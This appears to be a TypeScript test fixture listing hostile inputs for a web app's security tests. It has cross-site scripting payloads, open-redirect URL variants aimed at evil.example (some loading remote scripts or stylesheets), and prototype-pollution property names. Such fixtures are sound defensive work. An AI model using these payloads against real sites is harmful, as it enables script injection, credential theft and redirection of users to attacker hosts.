const ACT = 'window.hostile=1';

/**
 * Texts that run as script wherever a page treats text as markup, a style, a link or code (SC3).
 */
export const PAYLOADS: readonly string[] = [
  `<script>${ACT}</script>`,
  `"><script>${ACT}</script>`,
  `'><script>${ACT}</script>`,
  `</title><script>${ACT}</script>`,
  `</textarea><script>${ACT}</script>`,
  `</style><script>${ACT}</script>`,
  `--><script>${ACT}</script>`,
  `]]><script>${ACT}</script>`,
  `<ScRiPt>${ACT}</sCrIpT>`,
  `<script/x>${ACT}</script>`,
  `<scr<script>ipt>${ACT}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${ACT}>`,
  `"><img src=x onerror=${ACT}>`,
  `' onerror='${ACT}' x='`,
  `" onfocus="${ACT}" autofocus="`,
  `<img src=//evil.example/x.png>`,
  `<svg onload=${ACT}>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<math><mtext><script>${ACT}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.hostile=1</script>">`,
  `<iframe src=javascript:${ACT}>`,
  `<object data=javascript:${ACT}>`,
  `<embed src=javascript:${ACT}>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ACT}">`,
  `<body onload=${ACT}>`,
  `<details open ontoggle=${ACT}>`,
  `<video><source onerror=${ACT}></video>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<form action=javascript:${ACT}><input type=submit autofocus>`,
  `javascript:${ACT}`,
  `java\tscript:${ACT}`,
  `data:text/html,<script>parent.hostile=1</script>`,
  `{{constructor.constructor('${ACT}')()}}`,
  `\${${ACT}}`,
  `&lt;script&gt;${ACT}&lt;/script&gt;`,
  `\u003cscript\u003e${ACT}\u003c/script\u003e`,
];

/** URLs of other sites, written in the ways that a careless check accepts (SC4). */
export const ELSEWHERE: readonly string[] = [
  'https://evil.example',
  'http://evil.example/',
  '//evil.example',
  '///evil.example',
  '////evil.example/%2e%2e',
  'https:evil.example',
  'https:/evil.example',
  String.raw`/\evil.example`,
  String.raw`\/evil.example`,
  String.raw`\\evil.example`,
  String.raw`https:\\evil.example`,
  '/\t/evil.example',
  '/\n/evil.example',
  '\thttps://evil.example',
  ' //evil.example',
  '%2F%2Fevil.example',
  '%252F%252Fevil.example',
  '%5C%5Cevil.example',
  'https%3A%2F%2Fevil.example',
  'javascript:window.hostile=1',
  'JaVaScRiPt:window.hostile=1',
  'data:text/html,<script>parent.hostile=1</script>',
  'https://kettle.example@evil.example',
  'https://evil.example#kettle.example',
  '//evil.example/joining-tenant?guid=acc_hostile',
];

/**
 * Property names that every object inherits. Lookups must find nothing under these names, and must
 * set nothing.
 */
export const NAMES_OF_EVERY_OBJECT: readonly string[] = [
  '__proto__',
  '__proto__[hostile]',
  '__proto__.hostile',
  'constructor',
  'constructor.prototype',
  'constructor[prototype][hostile]',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
];
